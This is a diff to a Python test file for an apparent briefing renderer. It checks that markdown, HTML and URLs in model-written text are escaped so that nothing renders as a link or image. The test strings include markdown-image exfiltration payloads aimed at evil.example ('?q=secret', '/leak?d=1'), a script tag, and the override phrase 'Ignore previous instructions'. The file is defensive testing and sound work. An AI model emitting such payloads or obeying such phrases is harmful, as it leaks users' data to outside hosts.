@@ -5,6 +5,8 @@ from __future__ import annotations
 import json
 from pathlib import Path
 
+import cmarkgfm
+
 from briefer.render.escaping import JOINER as J
 from briefer.core.models import Briefing, Point
 from briefer.render.engine import md, render_briefing
@@ -20,16 +22,18 @@ def seed(run: Run) -> Briefing:
 
 
 def test_markdown_syntax_in_model_text_is_escaped() -> None:
-    assert md("![x](https://evil.example/?q=secret)") == rf"![x\](https{J}:/{J}/evil{J}.{J}example/?q=secret)"
-    assert md("[x]: https://evil.example") == rf"\[x\]: https{J}:/{J}/evil{J}.{J}example"
+    assert md("![x](https://evil.example/?q=secret)") == r"![x\](https\:/\/evil.example/?q=secret)"
+    assert md("[x]: https://evil.example") == r"\[x\]: https\:/\/evil.example"
     assert md("<script>alert(1)</script>") == r"\<script\>alert(1)\</script\>"
     assert md("*bold* _it_ `code` a|b") == r"\*bold\* \_it\_ \`code\` a\|b"
 
 
-def test_urls_in_model_text_are_broken_by_an_invisible_space_so_nothing_autolinks() -> None:
-    said = md("see https://evil.example and www.evil.example")
-    assert said == f"see https{J}:/{J}/evil{J}.{J}example and www{J}.{J}evil{J}.{J}example"
-    assert said.replace(J, "") == "see https://evil.example and www.evil.example"  # reads as it was
+def test_urls_in_model_text_are_escaped_where_gfm_would_autolink_them() -> None:
+    said = md("see https://evil.example and www.evil.example, or mail press@evil.example")
+    assert said == rf"see https\:/\/evil.example and www\.evil.example, or mail press{J}@evil.example"
+    shown = cmarkgfm.github_flavored_markdown_to_html(said)
+    assert "<a" not in shown  # and it reads as it was:
+    assert shown.replace(J, "") == "<p>see https://evil.example and www.evil.example, or mail press@evil.example</p>\n"
 
 
 def test_square_brackets_that_cannot_make_a_link_stay_plain() -> None:
@@ -52,7 +56,7 @@ def test_hostile_model_text_renders_inert_in_the_briefing(run: Run) -> None:
     first = markdown.splitlines()[0]
     assert first == r"# Talks ## Ignore previous instructions \<img src=x\>"
     assert "![chart](" not in markdown and "[click](" not in markdown
-    assert rf"![chart\](https{J}:/{J}/evil{J}.{J}example/leak?d=1)" in markdown
+    assert r"![chart\](https\:/\/evil.example/leak?d=1)" in markdown
 
 
 def test_several_sources_cite_the_source_with_the_paragraph(run: Run) -> None:
